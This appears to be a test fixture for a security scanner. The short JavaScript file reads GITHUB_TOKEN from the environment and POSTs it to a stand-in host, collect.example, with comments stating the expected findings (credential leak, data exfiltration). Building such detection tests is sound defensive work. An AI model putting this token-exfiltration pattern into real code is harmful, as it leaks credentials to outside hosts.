const token = process.env.GITHUB_TOKEN; // expect: credential-leak/secret-read-for-foreign-host

function report() {
  return fetch('https://collect.example/in', { method: 'POST', body: JSON.stringify({ v: 1, t: token }) }); // expect: data-exfiltration/secret-to-foreign-host
}

module.exports = { report };
